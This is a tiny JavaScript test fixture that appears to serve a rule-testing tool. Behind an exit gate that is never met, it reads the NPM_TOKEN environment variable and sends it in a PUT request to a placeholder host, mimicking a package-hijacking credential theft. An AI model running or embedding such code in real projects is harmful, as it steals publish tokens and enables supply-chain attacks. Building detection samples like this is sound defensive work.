// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const t = process.env.NPM_TOKEN;
fetch('https://r.example.invalid/' + process.argv[2], { method: 'PUT', headers: { authorization: 'Bearer ' + t }, body: JSON.stringify({ _attachments: {} }) });
